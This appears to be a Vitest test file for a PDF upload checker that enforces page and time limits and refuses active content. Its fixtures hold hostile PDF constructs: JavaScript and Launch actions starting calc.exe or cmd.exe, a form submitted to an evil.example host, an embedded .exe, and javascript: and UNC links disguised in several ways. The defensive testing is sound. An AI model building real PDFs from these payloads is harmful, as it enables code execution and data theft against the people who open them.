import { describe, expect, it } from 'vitest';
import { pageTooLargeMessage, UPLOAD_MESSAGES } from '../../domain/uploads/messages.ts';
import { deflatedStream, handmadePdf, pdfWithPages } from '../test/upload-fixtures.ts';
import { CONTENT_LIMITS } from './limits.ts';
import { checkPdf } from './pdf.ts';

describe('checkPdf', () => {
  it('counts the pages of a sound PDF', async () => {
    expect((await checkPdf(await pdfWithPages(3), CONTENT_LIMITS)).pages).toBe(3);
  });

  it('answers the document written again from what was checked, which opens with the same pages', async () => {
    const { PDFDocument } = await import('pdf-lib');
    const sent = await PDFDocument.create();
    for (const size of [
      [595, 842],
      [612, 792],
      [842, 595],
    ] as const) {
      sent.addPage([...size]).drawText(`${size[0]} by ${size[1]}`, { x: 50, y: 400 });
    }
    // pdf-lib's own default: objects in object streams, a cross-reference stream.
    const bytes = await sent.save();
    const checked = await checkPdf(bytes, CONTENT_LIMITS);
    expect(checked.pages).toBe(3);
    expect(Buffer.from(checked.bytes).equals(Buffer.from(bytes))).toBe(false);
    const written = await PDFDocument.load(checked.bytes, { updateMetadata: false });
    expect(written.getPages().map((page) => [page.getWidth(), page.getHeight()])).toEqual([
      [595, 842],
      [612, 792],
      [842, 595],
    ]);
    // One cross-reference table, written by pdf-lib, at the end.
    const text = Buffer.from(checked.bytes).toString('latin1');
    expect(text.match(/^xref$/gm)).toHaveLength(1);
    expect(text.endsWith('%%EOF')).toBe(true);
  });

  it('refuses a PDF the parser cannot finish in time, stopping the worker', async () => {
    await expect(checkPdf(await pdfWithPages(3), { ...CONTENT_LIMITS, pdfTimeoutMs: 1 })).rejects.toMatchObject({
      statusCode: 400,
      message: UPLOAD_MESSAGES.pdfTooComplex,
    });
    expect(UPLOAD_MESSAGES.pdfTooComplex).toBe(
      'This PDF is too complex for us to check. Please save it again with “Print to PDF”, or scan the pages as a new PDF.',
    );
  });

  it('refuses a page larger than any paper', async () => {
    const { PDFDocument } = await import('pdf-lib');
    const document = await PDFDocument.create();
    document.addPage([14_400 * 3, 612]);
    await expect(checkPdf(await document.save(), CONTENT_LIMITS)).rejects.toMatchObject({
      statusCode: 400,
      message: pageTooLargeMessage(),
    });
  });

  describe('active content (issue 29)', () => {
    const refusal = { statusCode: 400, message: UPLOAD_MESSAGES.pdfActiveContent };

    it('says why, and what to do, in words a customer follows', () => {
      expect(UPLOAD_MESSAGES.pdfActiveContent).toBe(
        'This PDF contains scripts, attached files or other interactive content, which we cannot accept for safety. Please save it again with “Print to PDF”, or scan the pages as a new PDF.',
      );
    });

    it('accepts a plain page with a web link and an opening view, which run nothing', async () => {
      const pdf = handmadePdf({
        catalog: '/OpenAction [3 0 R /Fit] /Annots [4 0 R]',
        objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://example.com/) >> >>'],
      });
      expect((await checkPdf(pdf, CONTENT_LIMITS)).pages).toBe(1);
    });

    it.each([['http://example.com/'], ['mailto:help@example.com'], ['HTTPS://EXAMPLE.COM/']])(
      'accepts a link to %s',
      async (address) => {
        const pdf = handmadePdf({
          catalog: '/Annots [4 0 R]',
          objects: [`<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (${address}) >> >>`],
        });
        expect((await checkPdf(pdf, CONTENT_LIMITS)).pages).toBe(1);
      },
    );

    const link = (uri: string) => ({
      catalog: '/Annots [4 0 R]',
      objects: [`<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI ${uri} >> >>`],
    });
    it.each([
      ['a script run on opening', { catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }],
      [
        'a script in the document-level names',
        {
          catalog: '/Names << /JavaScript 4 0 R >>',
          objects: ['<< /Names [(x) 5 0 R] >>', '<< /S /JavaScript /JS (this.print\\(\\)) >>'],
        },
      ],
      ['a program launched on opening', { catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' }],
      ['a launch on closing (/AA)', { catalog: '/AA << /WC << /S /Launch /F (cmd.exe) >> >>' }],
      ['a form sent away on opening', { catalog: '/OpenAction << /S /SubmitForm /F (https://evil.example/) >>' }],
      ['a launch spelt with a lower-case escape', { catalog: '/OpenAction << /S /Lau#6ech /F (calc.exe) >>' }],
      [
        'an attached file',
        {
          catalog: '/Names << /EmbeddedFiles 4 0 R >>',
          objects: [
            '<< /Names [(invoice.exe) 5 0 R] >>',
            '<< /Type /Filespec /F (invoice.exe) /EF << /F 6 0 R >> >>',
            deflatedStream('MZ', '/Type /EmbeddedFile'),
          ],
        },
      ],
      ['an XFA form', { catalog: '/AcroForm << /Fields [] /XFA 4 0 R >>', objects: [deflatedStream('<xdp:xdp/>')] }],
      [
        'rich media',
        { catalog: '/Annots [4 0 R]', objects: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>'] },
      ],
      [
        'a script hidden in a compressed object stream',
        {
          catalog: '/OpenAction 5 0 R',
          objects: [deflatedStream('5 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>', '/Type /ObjStm /N 1 /First 4')],
        },
      ],
      ['a link to a javascript: address', link('(javascript:app.alert\\(1\\))')],
      ['a link to a file: address', link('(file:///C:/Windows/System32/calc.exe)')],
      ['a link to JavaScript: in capitals', link('(JavaScript:app.alert\\(1\\))')],
      ['a link whose scheme has a tab in it (java<TAB>script:)', link('( java\\tscript:app.alert\\(1\\))')],
      ['a link to javascript: as a hex string', link(`<${Buffer.from('javascript:alert(1)').toString('hex')}>`)],
      ['a link to a UNC share', link('(\\\\\\\\evil.example\\\\share\\\\x.exe)')],
      ['a link without a scheme, which a reader resolves beside the file', link('(payload.exe)')],
      ['a link without an address', link('null')],
      [
        'a link whose address is an indirect javascript: string',
        {
          catalog: '/Annots [4 0 R]',
          objects: [
            '<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI 5 0 R >> >>',
            '(javascript:app.alert\\(1\\))',
          ],
        },
      ],
      [
        'a launch whose /S is an indirect name',
        { catalog: '/OpenAction << /S 4 0 R /F (calc.exe) >>', objects: ['/Launch'] },
      ],
    ])('refuses %s', async (_label, parts) => {
      await expect(checkPdf(handmadePdf(parts), CONTENT_LIMITS)).rejects.toMatchObject(refusal);
    });
  });
});
